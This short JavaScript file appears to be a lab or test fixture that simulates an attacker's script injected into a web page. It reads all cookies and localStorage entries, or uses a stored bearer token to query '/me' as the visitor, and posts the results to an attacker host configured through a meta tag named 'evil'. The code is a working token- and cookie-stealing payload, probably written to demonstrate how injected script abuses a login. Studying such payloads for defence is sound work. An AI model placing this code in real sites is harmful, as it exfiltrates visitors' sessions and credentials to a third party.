// The attacker's script inside a page of the application. It is the page now:
// it reads what the page can read, and asks as the page asks.

(() => {
  /** @param {string} name */
  const meta = (name) => document.querySelector(`meta[name="${name}"]`)?.getAttribute("content") ?? "";
  const mark = `attempt=${meta("attempt")}`;

  /** Everything that script of this origin can read of a login. */
  const readable = () => {
    const cookies = document.cookie
      .split("; ")
      .filter((pair) => pair !== "")
      .map((pair) => ({ name: pair.split("=")[0] ?? "", value: pair.slice(pair.indexOf("=") + 1) }));
    const stored = Object.entries(localStorage).map(([name, value]) => ({ name, value: String(value) }));
    return [...cookies, ...stored];
  };

  /** Acts as the visitor. The browser adds the cookie; a token that script holds, script adds. */
  const ride = async () => {
    const headers = new Headers();
    const access = localStorage.getItem("access");
    if (access !== null) headers.set("Authorization", `Bearer ${access}`);
    const answer = await fetch(`/me?${mark}`, { headers, cache: "no-store" });
    const { user } = await answer.json();
    return `${answer.status} ${user?.username ?? ""}`.trim();
  };

  /** Nobody asks whether the attacker's host may be told. @param {unknown} report */
  const sendHome = (report) =>
    fetch(`${meta("evil")}/collect?${mark}`, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });

  const act = async () => {
    if (meta("way") === "read") await sendHome({ items: readable() });
    else await sendHome({ said: await ride().catch(String) });
  };
  void act();
})();
